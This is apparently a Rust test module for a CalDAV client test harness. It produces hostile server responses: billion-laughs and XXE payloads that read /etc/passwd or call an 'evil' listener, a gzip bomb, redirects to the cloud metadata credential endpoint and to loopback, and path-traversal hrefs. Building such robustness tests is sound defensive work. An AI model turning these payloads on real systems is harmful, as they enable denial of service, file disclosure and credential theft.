//! Hostile answers, each a function of the scene it plays in.

use std::io::Write;

use axum::body::Body;
use axum::response::Response;
use bytes::Bytes;
use flate2::Compression;
use flate2::write::DeflateEncoder;
use http::{HeaderValue, StatusCode, header};

use crate::caldav::CalDavSim;
use crate::caldav::http::stream::repeated;
use crate::fault::TransportFault;

const XML: &str = "application/xml; charset=utf-8";
const DECLARATION: &str = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n";
const CHUNK: usize = 1 << 20;

/// What an answer may refer to.
pub(crate) struct Scene<'a> {
    pub(crate) sim: &'a CalDavSim,
    pub(crate) calendar: &'a str,
    /// Origin of the evil listener, without a trailing slash.
    pub(crate) evil: &'a str,
    /// Path of the request as sent.
    pub(crate) path: &'a str,
    /// How often the attack struck before.
    pub(crate) strike: u64,
}

impl Scene<'_> {
    /// The rows of a correct sync report.
    fn true_rows(&self) -> String {
        self.sim
            .snapshot(self.calendar)
            .iter()
            .map(|object| row(&object.href, &object.etag))
            .collect()
    }
}

pub(super) fn billion_laughs(_: &Scene<'_>) -> Response {
    let mut dtd = String::from("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    let mut previous = "lol".to_owned();
    for level in 1..=9 {
        let name = format!("lol{level}");
        let value = format!("&{previous};").repeat(10);
        dtd.push_str(&format!("<!ENTITY {name} \"{value}\">"));
        previous = name;
    }
    dtd.push_str("]>");
    let body = multistatus(&format!(
        "<d:response><d:href>&lol9;</d:href></d:response>{}",
        token("x")
    ));
    xml(format!("{DECLARATION}{dtd}{body}"))
}

pub(super) fn external_entity(scene: &Scene<'_>) -> Response {
    let dtd = format!(
        "<!DOCTYPE m [<!ENTITY a SYSTEM \"file:///etc/passwd\"><!ENTITY b SYSTEM \"{}/entity\">]>",
        scene.evil
    );
    let body = multistatus(&format!(
        "<d:response><d:href>{}</d:href><d:propstat><d:prop><d:displayname>&a;&b;</d:displayname>\
         </d:prop><d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response>",
        scene.path
    ));
    xml(format!("{DECLARATION}{dtd}{body}"))
}

pub(super) fn external_dtd(scene: &Scene<'_>) -> Response {
    let dtd = format!(
        "<!DOCTYPE d:multistatus SYSTEM \"{}/evil.dtd\">",
        scene.evil
    );
    let body = principal_row(scene.path, "/remote.php/dav/principals/users/victim/");
    xml(format!("{DECLARATION}{dtd}{}", multistatus(&body)))
}

pub(super) fn deep(_: &Scene<'_>) -> Response {
    let body = format!("{}{}", "<d:a>".repeat(10_000), "</d:a>".repeat(10_000));
    xml(format!("{DECLARATION}{}", multistatus(&body)))
}

pub(super) fn million_elements(_: &Scene<'_>) -> Response {
    let rows = Bytes::from("<d:response/>".repeat(1_000));
    stream(vec![
        (Bytes::from(open()), 1),
        (rows, 1_000),
        (Bytes::from("</d:multistatus>"), 1),
    ])
}

pub(super) fn gigabyte(scene: &Scene<'_>) -> Response {
    let head = format!(
        "{}<d:response><d:href>{}canary.ics</d:href><d:propstat><d:prop><c:calendar-data>",
        open(),
        scene.calendar
    );
    let tail = "</c:calendar-data></d:prop><d:status>HTTP/1.1 200 OK</d:status></d:propstat>\
                </d:response></d:multistatus>";
    stream(vec![
        (Bytes::from(head), 1),
        (Bytes::from(vec![b'A'; 1 << 16]), 1 << 14),
        (Bytes::from(tail), 1),
    ])
}

/// 4 MB on the wire, 4 GiB of spaces unpacked, never complete in this process' memory.
pub(super) fn gzip_bomb(_: &Scene<'_>) -> Response {
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
    let packed = encoder
        .write_all(&vec![b' '; CHUNK])
        .and_then(|()| encoder.flush())
        .map(|()| encoder.get_ref().clone())
        .unwrap_or_default();
    let head = Bytes::from_static(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);
    let mut response = stream(vec![(head, 1), (Bytes::from(packed), 4096)]);
    let gzip = HeaderValue::from_static("gzip");
    response
        .headers_mut()
        .insert(header::CONTENT_ENCODING, gzip);
    response
}

pub(super) fn to_loopback(scene: &Scene<'_>) -> Response {
    let port = scene.evil.rsplit(':').next().unwrap_or("80");
    redirect(&format!("http://127.0.0.2:{port}/internal"))
}

pub(super) fn to_metadata(_: &Scene<'_>) -> Response {
    redirect("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
}

pub(super) fn to_file(_: &Scene<'_>) -> Response {
    redirect("file:///etc/passwd")
}

pub(super) fn to_other_host(scene: &Scene<'_>) -> Response {
    redirect(&format!("{}/remote.php/dav/", scene.evil))
}

pub(super) fn in_circles(scene: &Scene<'_>) -> Response {
    redirect(&format!("/remote.php/dav/?round={}", scene.strike))
}

pub(super) fn principal_elsewhere(scene: &Scene<'_>) -> Response {
    let target = format!("{}/principals/victim/", scene.evil);
    let body = multistatus(&principal_row(scene.path, &target));
    xml(format!("{DECLARATION}{body}"))
}

pub(super) fn home_at_metadata(scene: &Scene<'_>) -> Response {
    let body = multistatus(&format!(
        "<d:response><d:href>{}</d:href><d:propstat><d:prop><c:calendar-home-set>\
         <d:href>http://169.254.169.254/calendars/</d:href></c:calendar-home-set></d:prop>\
         <d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response>",
        scene.path
    ));
    xml(format!("{DECLARATION}{body}"))
}

pub(super) fn hrefs_elsewhere(scene: &Scene<'_>) -> Response {
    let rows = format!(
        "{}{}{}",
        scene.true_rows(),
        row(&format!("{}/steal/a.ics", scene.evil), "\"1\""),
        row(
            &format!("{}/b.ics", scene.evil.replace("http:", "")),
            "\"2\""
        ),
    );
    sync(&rows)
}

pub(super) fn hrefs_climbing(scene: &Scene<'_>) -> Response {
    let calendar = scene.calendar;
    let climbing: String = [
        format!("{calendar}../../../../admin/secret.ics"),
        format!("{calendar}..%2f..%2f..%2fadmin%2fsecret.ics"),
        "../../../../etc/passwd".to_owned(),
        "/admin/secret.ics".to_owned(),
        format!("{calendar}a\u{0}.ics").replace('\u{0}', "%00"),
        "javascript:alert(1)".to_owned(),
        "file:///etc/passwd".to_owned(),
    ]
    .iter()
    .map(|href| row(href, "\"1\""))
    .collect();
    sync(&format!("{}{climbing}", scene.true_rows()))
}

pub(super) fn login_page(_: &Scene<'_>) -> Response {
    let page = "<!DOCTYPE html><html><body><form action=/login><input name=password></form>";
    answer(StatusCode::OK, "text/html; charset=utf-8", Body::from(page))
}

pub(super) fn empty(_: &Scene<'_>) -> Response {
    answer(StatusCode::MULTI_STATUS, XML, Body::empty())
}

pub(super) fn empty_rows(_: &Scene<'_>) -> Response {
    sync("")
}

pub(super) fn properties_gone(scene: &Scene<'_>) -> Response {
    let rows = scene.true_rows().replace("200 OK", "404 Not Found");
    sync(&rows)
}

pub(super) fn wrong_type(scene: &Scene<'_>) -> Response {
    let mut response = sync(&scene.true_rows());
    let kind = HeaderValue::from_static("image/png");
    response.headers_mut().insert(header::CONTENT_TYPE, kind);
    response
}

pub(super) fn endless_same_token(scene: &Scene<'_>) -> Response {
    truncated(scene, "http://sabre.io/ns/sync/again")
}

pub(super) fn endless_new_tokens(scene: &Scene<'_>) -> Response {
    truncated(scene, &format!("http://sabre.io/ns/sync/n{}", scene.strike))
}

pub(super) fn slow(scene: &Scene<'_>) -> Response {
    let mut response = sync(&scene.true_rows());
    response.extensions_mut().insert(TransportFault::Drip {
        bytes_per_second: 1,
    });
    response
}

pub(super) fn not_utf8(scene: &Scene<'_>) -> Response {
    let mut body = format!("{}{}", open(), scene.true_rows()).into_bytes();
    body.extend_from_slice(
        b"<d:response><d:href>/\xff\xfe\x00\x80</d:href></d:response></d:multistatus>",
    );
    answer(StatusCode::MULTI_STATUS, XML, Body::from(body))
}

fn truncated(scene: &Scene<'_>, next: &str) -> Response {
    let row = format!(
        "<d:response><d:href>{}</d:href><d:status>HTTP/1.1 507 Insufficient Storage</d:status>\
         <d:error><d:number-of-matches-within-limits/></d:error></d:response>",
        scene.calendar
    );
    let body = format!("{}{row}{}", scene.true_rows(), token(next));
    xml(format!("{DECLARATION}{}", multistatus(&body)))
}

fn sync(rows: &str) -> Response {
    let body = format!("{rows}{}", token("http://sabre.io/ns/sync/0-999"));
    xml(format!("{DECLARATION}{}", multistatus(&body)))
}

fn open() -> String {
    format!(
        "{DECLARATION}<d:multistatus xmlns:d=\"DAV:\" xmlns:c=\"urn:ietf:params:xml:ns:caldav\">"
    )
}

fn multistatus(inner: &str) -> String {
    format!(
        "<d:multistatus xmlns:d=\"DAV:\" xmlns:c=\"urn:ietf:params:xml:ns:caldav\">{inner}</d:multistatus>"
    )
}

fn token(value: &str) -> String {
    format!("<d:sync-token>{value}</d:sync-token>")
}

fn row(href: &str, etag: &str) -> String {
    let etag = etag.replace('"', "&quot;");
    format!(
        "<d:response><d:href>{href}</d:href><d:propstat><d:prop><d:getetag>{etag}</d:getetag></d:prop>\
         <d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response>"
    )
}

fn principal_row(href: &str, principal: &str) -> String {
    format!(
        "<d:response><d:href>{href}</d:href><d:propstat><d:prop><d:current-user-principal>\
         <d:href>{principal}</d:href></d:current-user-principal></d:prop>\
         <d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response>"
    )
}

fn xml(body: String) -> Response {
    answer(StatusCode::MULTI_STATUS, XML, Body::from(body))
}

fn stream(chunks: Vec<(Bytes, u64)>) -> Response {
    answer(StatusCode::MULTI_STATUS, XML, repeated(chunks))
}

fn redirect(location: &str) -> Response {
    let mut response = answer(StatusCode::MOVED_PERMANENTLY, "text/plain", Body::empty());
    if let Ok(location) = HeaderValue::from_str(location) {
        response.headers_mut().insert(header::LOCATION, location);
    }
    response
}

fn answer(status: StatusCode, content_type: &'static str, body: Body) -> Response {
    let mut response = Response::new(body);
    *response.status_mut() = status;
    response
        .headers_mut()
        .insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
    response
}
